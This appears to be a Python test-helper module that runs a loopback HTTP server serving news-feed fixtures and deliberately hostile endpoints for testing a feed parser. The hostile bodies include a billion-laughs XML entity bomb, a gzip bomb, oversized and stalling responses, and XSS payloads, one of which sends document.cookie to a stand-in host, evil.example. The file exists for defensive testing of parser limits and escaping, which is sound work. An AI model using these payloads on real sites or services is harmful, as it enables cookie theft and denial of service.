# ruff: noqa: E501 - the hostile bodies below are verbatim XML/HTML with long lines
"""A local HTTP server that serves the fixture feeds (and hostile ones) for tests.

Fixture files under ``tests/fixtures/feeds/`` hold date placeholders that are
rendered relative to the server's ``now`` on every request:

* ``{{ago:3h}}``      -> RFC 822 date (RSS ``<pubDate>``), 3 hours before ``now``
* ``{{iso-ago:90m}}`` -> ISO 8601 date (Atom ``<updated>``, RDF ``<dc:date>``)

Amounts are one or more ``<number><unit>`` parts with units s, m, h, d, w
(``1d2h`` works); a leading ``-`` gives a date in the future.

Usage::

    with FeedServer() as server:
        httpx.get(server.feed_url("bbc_world.xml"))
"""

from __future__ import annotations

import email.utils
import gzip
import hashlib
import json
import re
import threading
import time
from collections.abc import Iterable
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import TracebackType
from typing import Any
from urllib.parse import unquote, urlsplit

FIXTURES_DIR = Path(__file__).resolve().parent / "fixtures"
FIXTURES_FEEDS = FIXTURES_DIR / "feeds"
LABELS_PATH = FIXTURES_DIR / "labels.json"

# Outlet names for the fixture files; files not listed fall back to the feed's own title.
OUTLET_NAMES: dict[str, str] = {
    "bbc_world.xml": "BBC World",
    "aljazeera.xml": "Al Jazeera",
    "guardian_world.xml": "Guardian World",
    "npr_world.xml": "NPR World",
    "france24.xml": "France 24",
    "dw_world.rdf": "DW",
    "defenseone.xml": "Defense One",
    "un_news.xml": "UN News",
    "longwarjournal.xml": "Long War Journal",
    "lemonde_fr.xml": "Le Monde International",
    "intl_wire.xml": "Continental Press Wire",
    "stale_outlet.xml": "Frontier Dispatch",
}
# Weights as in bot/news/data/default_feeds.toml; fixtures not listed get the default (omitted).
OUTLET_WEIGHTS: dict[str, float] = {"un_news.xml": 1.2, "longwarjournal.xml": 1.2}
STALE_FIXTURES = frozenset({"stale_outlet.xml"})

HUGE_SIZE = 13 * 1024 * 1024  # bytes served by /hostile/huge.xml (> 12 MB)
STALL_SECONDS = 30.0  # how long /hostile/stall.xml waits before sending its body

_PLACEHOLDER = re.compile(r"\{\{(ago|iso-ago):(-?)((?:\d+(?:\.\d+)?[smhdw])+)\}\}")
_AMOUNT_PART = re.compile(r"(\d+(?:\.\d+)?)([smhdw])")
_UNIT_SECONDS = {"s": 1, "m": 60, "h": 3600, "d": 86400, "w": 604800}
_LANG_PATTERNS = (
    re.compile(r"<language>\s*([A-Za-z]{2,3})(?:[-_][A-Za-z0-9]+)*\s*</language>"),
    re.compile(r"<dc:language>\s*([A-Za-z]{2,3})(?:[-_][A-Za-z0-9]+)*\s*</dc:language>"),
    re.compile(r"<feed\b[^>]*\bxml:lang=\"([A-Za-z]{2,3})(?:[-_][A-Za-z0-9]+)*\""),
)
_TITLE = re.compile(r"<title[^>]*>(.*?)</title>", re.S)


def parse_ago(amount: str) -> timedelta:
    """Turn a placeholder amount such as '3h', '90m', '1d2h' or '-2h' into a timedelta."""
    sign = -1 if amount.startswith("-") else 1
    body = amount.lstrip("-")
    if not body or _AMOUNT_PART.sub("", body):
        raise ValueError(f"bad amount: {amount!r}")
    seconds = sum(float(n) * _UNIT_SECONDS[u] for n, u in _AMOUNT_PART.findall(body))
    return timedelta(seconds=sign * seconds)


def render_placeholders(text: str, now: datetime) -> tuple[str, datetime | None]:
    """Substitute date placeholders; return the text and the newest non-future date used."""
    newest: list[datetime] = []

    def sub(match: re.Match[str]) -> str:
        kind, sign, amount = match.groups()
        when = (now - parse_ago(sign + amount)).replace(microsecond=0)
        if when <= now:
            newest.append(when)
        if kind == "ago":
            return email.utils.format_datetime(when, usegmt=True)
        return when.isoformat().replace("+00:00", "Z")

    rendered = _PLACEHOLDER.sub(sub, text)
    return rendered, (max(newest) if newest else None)


def fixture_language(text: str) -> str | None:
    """The primary language subtag a feed declares at channel level, lower-case, or None."""
    head = text.split("<item", 1)[0].split("<entry", 1)[0]
    for pattern in _LANG_PATTERNS:
        match = pattern.search(head)
        if match:
            return match.group(1).lower()
    return None


def fixture_title(text: str) -> str | None:
    """The feed-level title of a fixture, or None."""
    match = _TITLE.search(text)
    return match.group(1).strip() if match else None


def fixture_files(fixtures_dir: Path = FIXTURES_FEEDS) -> list[Path]:
    """All fixture feed files, sorted by name."""
    return sorted(
        p for p in fixtures_dir.iterdir() if p.is_file() and p.suffix in {".xml", ".rdf", ".atom"}
    )


def outlet_name(path: Path) -> str:
    """The outlet name of a fixture file."""
    if path.name in OUTLET_NAMES:
        return OUTLET_NAMES[path.name]
    return fixture_title(path.read_text(encoding="utf-8")) or path.stem


def load_labels(path: Path = LABELS_PATH) -> dict[str, dict[str, Any]]:
    """The ground-truth labels, keyed by item link."""
    return json.loads(path.read_text(encoding="utf-8"))


def _content_type_for(text: str, name: str) -> str:
    if name.endswith(".rdf") or "<rdf:RDF" in text[:500]:
        return "application/rdf+xml; charset=utf-8"
    if "<feed" in text[:500]:
        return "application/atom+xml; charset=utf-8"
    return "application/rss+xml; charset=utf-8"


def _http_date(when: datetime) -> str:
    return email.utils.format_datetime(when.astimezone(UTC).replace(microsecond=0), usegmt=True)


def _accepts_gzip(header: str | None) -> bool:
    if not header:
        return False
    for part in header.split(","):
        token, _, params = part.strip().partition(";")
        if token.strip().lower() in {"gzip", "x-gzip", "*"}:
            q = 1.0
            for param in params.split(";"):
                key, _, value = param.strip().partition("=")
                if key.strip().lower() == "q":
                    try:
                        q = float(value)
                    except ValueError:
                        q = 0.0
            return q > 0
    return False


# --- hostile bodies ---------------------------------------------------------------------------

INVALID_XML = b"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0">
  <channel>
    <title>Broken Feed</title>
    <link>https://broken.example/</link>
    <item>
      <title>Militants attack checkpoint & kill 4 <b>soldiers</title>
      <link>https://broken.example/news/checkpoint-attack</link>
      <pubDate>Tue, 03 Jun 2025 08:00:00 GMT</pubDate>
      <description>Gunmen opened fire on a checkpoint near the bor"""

BOMB_XML = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0">
  <channel>
    <title>Laughs</title>
    <link>https://bomb.example/</link>
    <description>&lol9;</description>
    <item>
      <title>&lol9;</title>
      <link>https://bomb.example/news/1</link>
      <description>&lol9;</description>
    </item>
  </channel>
</rss>
"""

BLOCKED_HTML = b"""<!DOCTYPE html>
<html><head><title>Access Denied</title></head>
<body>
<h1>Access Denied</h1>
You don't have permission to access "http&#58;&#47;&#47;www&#46;example&#46;com&#47;rss&#46;xml" on this server.<p>
Reference&#32;&#35;18&#46;4f2c1702&#46;1749100000&#46;2a1b3c
</body>
</html>
"""

BLOCKED403_BODY = b"""<?xml version="1.0"?>
<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">
<html xmlns="http://www.w3.org/1999/xhtml">
<head><title>Attention Required! | Access denied</title></head>
<body>
<h1>Sorry, you have been blocked</h1>
<p>You are unable to access this site. This website is using a security service to protect itself
from online attacks.</p>
<p>Ray ID: 8c2f1e0a9b7d4e21</p>
</body>
</html>
"""

WRONG_CHARSET_LINK = "https://wrongcharset.example/news/goma-offensive"
WRONG_CHARSET_XML = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0">
  <channel>
    <title>Lakes Région Monitor</title>
    <link>https://wrongcharset.example/</link>
    <description>News from the Great Lakes région</description>
    <item>
      <title>Rebels launch “final offensive” on Goma’s outskirts, army says</title>
      <link>https://wrongcharset.example/news/goma-offensive</link>
      <pubDate>{{ago:4h}}</pubDate>
      <description>Fighters shelled the district of Mugunga; a café owner said “we’re leaving now”.</description>
    </item>
    <item>
      <title>Résumé of the week’s markets</title>
      <link>https://wrongcharset.example/news/markets-week</link>
      <pubDate>{{ago:6h}}</pubDate>
      <description>Coffee prices rose for a fifth week — a record run.</description>
    </item>
  </channel>
</rss>
"""

SCRIPTS_TITLE = 'Troops & rebels clash as 5 < 10 <script>alert("x")</script>'
SCRIPTS_LINK = "https://scripts.example/news/troops-rebels-clash"
SCRIPTS_XML = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">
  <channel>
    <title>Script &amp; Markup Test &lt;b&gt;Feed&lt;/b&gt;</title>
    <link>https://scripts.example/</link>
    <description>Feed whose items carry markup that must never reach a page unescaped</description>
    <language>en</language>
    <item>
      <title>Troops &amp; rebels clash as 5 &lt; 10 &lt;script&gt;alert("x")&lt;/script&gt;</title>
      <link>https://scripts.example/news/troops-rebels-clash</link>
      <guid>https://scripts.example/news/troops-rebels-clash</guid>
      <pubDate>{{ago:2h}}</pubDate>
      <description>&lt;p&gt;Government troops and rebels fought for control of the border town &amp;amp; its airstrip.&lt;/p&gt;&lt;iframe src="https://evil.example/frame"&gt;&lt;/iframe&gt;&lt;img src="x" onerror="alert(1)"&gt;&lt;a href="javascript:alert(2)" onclick="alert(3)"&gt;more&lt;/a&gt;&lt;script&gt;document.location='https://evil.example/?c='+document.cookie&lt;/script&gt;</description>
    </item>
    <item>
      <title><![CDATA[Airstrike hits <b>depot</b> & 3 < 4 <script>alert(1)</script> <img src=x onerror=alert(1)>]]></title>
      <link>https://scripts.example/news/airstrike-depot</link>
      <guid>https://scripts.example/news/airstrike-depot</guid>
      <pubDate>{{ago:3h}}</pubDate>
      <description><![CDATA[<p style="background:url(javascript:alert(1))">An airstrike destroyed a fuel depot.</p><iframe srcdoc="<script>alert(1)</script>"></iframe><svg onload="alert(1)"></svg>]]></description>
      <content:encoded><![CDATA[<p>Full text</p><object data="https://evil.example/x.swf"></object><form action="https://evil.example/"><input name="q"></form>]]></content:encoded>
    </item>
  </channel>
</rss>
"""

_HUGE_HEAD = b"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0">
  <channel>
    <title>Endless Feed</title>
    <link>https://huge.example/</link>
    <description>A feed that never seems to end</description>
"""
_HUGE_ITEM = (
    b"    <item><title>Filler item %08d</title><link>https://huge.example/news/%08d</link>"
    b"<description>"
    + b"Lorem ipsum dolor sit amet, consectetur adipiscing elit. " * 6
    + b"</description></item>\n"
)
_HUGE_TAIL = b"  </channel>\n</rss>\n"


def _huge_chunks(total: int = HUGE_SIZE) -> Iterable[bytes]:
    """Yield a valid-looking RSS body of at least ``total`` bytes in ~64 KB chunks."""
    yield _HUGE_HEAD
    sent = len(_HUGE_HEAD)
    n = 0
    while sent < total:
        parts = []
        size = 0
        while size < 65536:
            item = _HUGE_ITEM % (n, n)
            parts.append(item)
            size += len(item)
            n += 1
        chunk = b"".join(parts)
        sent += len(chunk)
        yield chunk
    yield _HUGE_TAIL


# --- server -----------------------------------------------------------------------------------


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True
    block_on_close = False
    feed_server: FeedServer


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "FixtureFeedServer/1.0"
    timeout = 15  # idle keep-alive connections give up after this
    server: _Server

    # -- plumbing --------------------------------------------------------------------------

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - stdlib signature
        """Silence the default stderr access log."""

    def log_request(self, code: int | str = "-", size: int | str = "-") -> None:
        """Record the request (path, method, lower-cased headers, status)."""
        try:
            status = int(code)
        except (TypeError, ValueError):
            status = 0
        self.server.feed_server._record(
            {
                "path": self.path,
                "method": self.command,
                "headers": {k.lower(): v for k, v in self.headers.items()},
                "status": status,
            }
        )

    def do_GET(self) -> None:
        """Serve a GET request."""
        self._dispatch(head=False)

    def do_HEAD(self) -> None:
        """Serve a HEAD request."""
        self._dispatch(head=True)

    def _dispatch(self, head: bool) -> None:
        fs = self.server.feed_server
        path = unquote(urlsplit(self.path).path)
        try:
            if path.startswith("/feeds/"):
                self._serve_fixture(path.removeprefix("/feeds/"), head)
            elif path.startswith("/custom/") and (
                redirect := fs._redirect_to(path.removeprefix("/custom/"))
            ):
                location, status = redirect
                self.send_response(status)
                self.send_header("Location", location)
                self.send_header("Content-Length", "0")
                self.end_headers()
            elif path.startswith("/custom/"):
                custom = fs._custom_body(path.removeprefix("/custom/"))
                if custom is None:
                    self._not_found(head)
                else:
                    body, ctype, status = custom
                    rendered, newest = render_placeholders(body.decode("latin-1"), fs.now)
                    self._send(rendered.encode("latin-1"), ctype, status, head, newest or fs.now)
            elif path.startswith("/hostile/"):
                self._serve_hostile(path.removeprefix("/hostile/"), head)
            else:
                self._not_found(head)
        except (BrokenPipeError, ConnectionResetError, ConnectionAbortedError):
            self.close_connection = True

    def _not_found(self, head: bool) -> None:
        self._send(b"Not Found\n", "text/plain; charset=utf-8", 404, head, conditional=False)

    def _send(
        self,
        body: bytes,
        content_type: str,
        status: int,
        head: bool,
        last_modified: datetime | None = None,
        conditional: bool = True,
    ) -> None:
        """Send a complete body with ETag/Last-Modified, conditional GET and gzip handling."""
        conditional = conditional and status == 200
        etag = '"' + hashlib.sha256(body).hexdigest()[:32] + '"'
        lm = last_modified or self.server.feed_server.now
        if conditional and self._not_modified(etag, lm):
            self.send_response(304)
            self.send_header("ETag", etag)
            self.send_header("Last-Modified", _http_date(lm))
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        encoded = body
        gzipped = _accepts_gzip(self.headers.get("Accept-Encoding"))
        if gzipped:
            encoded = gzip.compress(body, mtime=0)
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(encoded)))
        if conditional:
            self.send_header("ETag", etag)
            self.send_header("Last-Modified", _http_date(lm))
            self.send_header("Cache-Control", "max-age=60")
        self.send_header("Vary", "Accept-Encoding")
        if gzipped:
            self.send_header("Content-Encoding", "gzip")
        self.end_headers()
        if not head:
            self.wfile.write(encoded)

    def _not_modified(self, etag: str, last_modified: datetime) -> bool:
        inm = self.headers.get("If-None-Match")
        if inm is not None:
            tags = {t.strip().removeprefix("W/") for t in inm.split(",")}
            return "*" in tags or etag in tags
        ims = self.headers.get("If-Modified-Since")
        if ims:
            try:
                since = email.utils.parsedate_to_datetime(ims)
            except (TypeError, ValueError, IndexError):
                return False
            if since.tzinfo is None:
                since = since.replace(tzinfo=UTC)
            return last_modified.replace(microsecond=0) <= since
        return False

    # -- routes ----------------------------------------------------------------------------

    def _serve_fixture(self, name: str, head: bool) -> None:
        fs = self.server.feed_server
        path = fs.fixtures_dir / name
        if "/" in name or "\\" in name or name.startswith(".") or not path.is_file():
            self._not_found(head)
            return
        text = path.read_text(encoding="utf-8")
        rendered, newest = render_placeholders(text, fs.now)
        self._send(
            rendered.encode("utf-8"), _content_type_for(text, name), 200, head, newest or fs.now
        )

    def _serve_hostile(self, name: str, head: bool) -> None:
        fs = self.server.feed_server
        static: dict[str, tuple[bytes, str, int]] = {
            "invalid.xml": (INVALID_XML, "application/rss+xml; charset=utf-8", 200),
            "bomb.xml": (BOMB_XML, "application/rss+xml; charset=utf-8", 200),
            "blocked.html": (BLOCKED_HTML, "text/html; charset=utf-8", 200),
            "blocked403.xml": (BLOCKED403_BODY, "text/html; charset=utf-8", 403),
            "wrong_charset.xml": (
                render_placeholders(WRONG_CHARSET_XML, fs.now)[0].encode("windows-1252"),
                "application/rss+xml; charset=utf-8",
                200,
            ),
            "scripts.xml": (
                render_placeholders(SCRIPTS_XML, fs.now)[0].encode("utf-8"),
                "application/rss+xml; charset=utf-8",
                200,
            ),
        }
        if name in static:
            body, ctype, status = static[name]
            self._send(body, ctype, status, head, conditional=False)
        elif name == "huge.xml":
            self._serve_huge(head, declare_length=False)
        elif name == "huge_declared.xml":
            self._serve_huge(head, declare_length=True)
        elif name == "gzip_bomb.xml":
            self._serve_gzip_bomb(head)
        elif name == "stall.xml":
            self._serve_stall(head)
        else:
            self._not_found(head)

    def _serve_huge(self, head: bool, declare_length: bool) -> None:
        """Stream > 12 MB of RSS, chunked (or with a Content-Length when declare_length)."""
        fs = self.server.feed_server
        self.send_response(200)
        self.send_header("Content-Type", "application/rss+xml; charset=utf-8")
        if declare_length:
            self.send_header("Content-Length", str(sum(len(c) for c in _huge_chunks())))
        else:
            self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        if head:
            return
        for chunk in _huge_chunks():
            if fs._stopping.is_set():
                self.close_connection = True
                return
            if declare_length:
                self.wfile.write(chunk)
            else:
                self.wfile.write(b"%x\r\n%s\r\n" % (len(chunk), chunk))
        if not declare_length:
            self.wfile.write(b"0\r\n\r\n")

    def _serve_gzip_bomb(self, head: bool) -> None:
        """A small gzip body that inflates to ~50 MB of whitespace inside an RSS document."""
        body = self.server.feed_server._gzip_bomb()
        self.send_response(200)
        self.send_header("Content-Type", "application/rss+xml; charset=utf-8")
        self.send_header("Content-Encoding", "gzip")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if not head:
            self.wfile.write(body)

    def _serve_stall(self, head: bool) -> None:
        """Send headers, then wait STALL_SECONDS (or until stop()) before the body."""
        fs = self.server.feed_server
        body = render_placeholders(SCRIPTS_XML, fs.now)[0].encode("utf-8")
        self.send_response(200)
        self.send_header("Content-Type", "application/rss+xml; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.flush()
        if head:
            return
        if fs._stopping.wait(fs.stall_seconds):
            self.close_connection = True
            return
        self.wfile.write(body)


class FeedServer:
    """Serve the fixture feeds over real HTTP on 127.0.0.1 from a daemon thread."""

    def __init__(
        self,
        fixtures_dir: Path = FIXTURES_FEEDS,
        now: datetime | None = None,
        host: str = "127.0.0.1",
    ) -> None:
        """Prepare a server for ``fixtures_dir`` whose placeholders render relative to ``now``.

        ``host`` is a loopback address to bind (127.0.0.2 gives a second, distinct machine).
        """
        self.host = host
        self._redirects: dict[str, tuple[str, int]] = {}
        self.fixtures_dir = Path(fixtures_dir)
        self.now = (now or datetime.now(UTC)).astimezone(UTC)
        self.stall_seconds = STALL_SECONDS
        self.requests: list[dict[str, Any]] = []
        self._lock = threading.Lock()
        self._custom: dict[str, tuple[bytes, str, int]] = {}
        self._stopping = threading.Event()
        self._httpd: _Server | None = None
        self._thread: threading.Thread | None = None
        self._bomb: bytes | None = None
        self.url = ""

    # -- lifecycle -------------------------------------------------------------------------

    def start(self) -> None:
        """Bind an ephemeral port on 127.0.0.1 and serve in a daemon thread."""
        if self._httpd is not None:
            return
        self._stopping.clear()
        httpd = _Server((self.host, 0), _Handler)
        httpd.feed_server = self
        self._httpd = httpd
        self.url = f"http://{self.host}:{httpd.server_address[1]}"
        self._thread = threading.Thread(
            target=httpd.serve_forever,
            kwargs={"poll_interval": 0.05},
            name="FeedServer",
            daemon=True,
        )
        self._thread.start()

    def stop(self) -> None:
        """Stop serving; returns promptly even while requests (e.g. stall.xml) are in flight."""
        httpd = self._httpd
        if httpd is None:
            return
        self._stopping.set()
        httpd.shutdown()
        httpd.server_close()
        if self._thread is not None:
            self._thread.join(timeout=5)
        self._httpd = None
        self._thread = None

    def __enter__(self) -> FeedServer:
        """Start the server and return it."""
        self.start()
        return self

    def __exit__(
        self,
        exc_type: type[BaseException] | None,
        exc: BaseException | None,
        tb: TracebackType | None,
    ) -> None:
        """Stop the server."""
        self.stop()

    # -- urls and content ------------------------------------------------------------------

    def feed_url(self, name: str) -> str:
        """The URL of a fixture file such as 'bbc_world.xml'."""
        return f"{self.url}/feeds/{name}"

    def hostile_url(self, name: str) -> str:
        """The URL of a hostile endpoint such as 'stall.xml'."""
        return f"{self.url}/hostile/{name}"

    def custom_url(self, path: str) -> str:
        """The URL of content registered with set_body."""
        return f"{self.url}/custom/{path.lstrip('/')}"

    def set_body(
        self, path: str, body: bytes, content_type: str = "application/rss+xml", status: int = 200
    ) -> None:
        """Serve ``body`` at /custom/<path> (date placeholders in it are rendered too)."""
        with self._lock:
            self._custom[path.lstrip("/")] = (body, content_type, status)

    def set_redirect(self, path: str, location: str, status: int = 302) -> None:
        """Answer /custom/<path> with a redirect to ``location``."""
        with self._lock:
            self._redirects[path.lstrip("/")] = (location, status)

    def fixture_names(self) -> list[str]:
        """File names of all fixture feeds served under /feeds/."""
        return [p.name for p in fixture_files(self.fixtures_dir)]

    def render(self, name: str) -> str:
        """The body served for a fixture file, placeholders rendered."""
        return render_placeholders(
            (self.fixtures_dir / name).read_text(encoding="utf-8"), self.now
        )[0]

    def feeds_toml(self, names: Iterable[str] | None = None) -> str:
        """A TOML ``[[feeds]]`` list for the fixture feeds (all of them unless ``names`` given)."""
        wanted = list(names) if names is not None else self.fixture_names()
        blocks = []
        for name in wanted:
            path = self.fixtures_dir / name
            lines = [
                "[[feeds]]",
                f"name = {json.dumps(outlet_name(path), ensure_ascii=False)}",
                f"url = {json.dumps(self.feed_url(name))}",
            ]
            language = fixture_language(path.read_text(encoding="utf-8"))
            if language:
                lines.append(f"language = {json.dumps(language)}")
            if name in OUTLET_WEIGHTS:
                lines.append(f"weight = {OUTLET_WEIGHTS[name]}")
            blocks.append("\n".join(lines) + "\n")
        return "\n".join(blocks)

    # -- request log -----------------------------------------------------------------------

    def _record(self, entry: dict[str, Any]) -> None:
        with self._lock:
            self.requests.append(entry)

    def requests_to(self, path: str) -> list[dict[str, Any]]:
        """Logged requests whose path (query string ignored) equals ``path``."""
        with self._lock:
            return [r for r in self.requests if urlsplit(r["path"]).path == path]

    def clear_requests(self) -> None:
        """Forget the logged requests."""
        with self._lock:
            self.requests.clear()

    # -- internals -------------------------------------------------------------------------

    def _redirect_to(self, path: str) -> tuple[str, int] | None:
        with self._lock:
            return self._redirects.get(path)

    def _custom_body(self, path: str) -> tuple[bytes, str, int] | None:
        with self._lock:
            return self._custom.get(path)

    def _gzip_bomb(self) -> bytes:
        with self._lock:
            if self._bomb is None:
                raw = (
                    b'<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"><channel><title>Bomb</title>'
                    + b" " * (50 * 1024 * 1024)
                    + b"</channel></rss>\n"
                )
                self._bomb = gzip.compress(raw, compresslevel=9, mtime=0)
            return self._bomb


def _main() -> None:  # pragma: no cover - manual use
    """Run the server in the foreground and print its TOML."""
    with FeedServer() as server:
        print(server.feeds_toml())
        print(f"# serving on {server.url} - Ctrl-C to stop")
        try:
            while True:
                time.sleep(3600)
        except KeyboardInterrupt:
            pass


if __name__ == "__main__":  # pragma: no cover
    _main()
